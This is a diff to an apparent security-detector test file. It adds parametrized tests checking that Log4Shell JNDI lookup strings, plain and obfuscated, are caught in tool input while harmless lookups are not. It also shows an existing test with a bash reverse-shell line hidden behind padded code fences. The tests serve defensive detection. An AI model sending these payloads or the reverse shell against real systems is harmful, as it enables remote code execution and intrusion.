@@ -208,3 +208,16 @@ def test_truncation_info_parses_with_sdk() -> None:
 def test_fence_padding_does_not_hide_code() -> None:
     padded = "```\n```\n" * 1500 + "bash -i >& /dev/tcp/203.0.113.7/1 0>&1\n"
     assert _detect(padded).detected
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "${jndi:ldap://203.0.113.7/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.7/a}",
+        "${${lower:j}ndi:${lower:r}mi://203.0.113.7/a}",
+    ],
+)
+def test_log4shell_lookups_are_folded(value: str) -> None:
+    assert _detect(json.dumps({"user_agent": value}), "tool_input").detected
+    assert not _detect(json.dumps({"greeting": "${env:HOME} and ${user.name}"}), "tool_input").detected
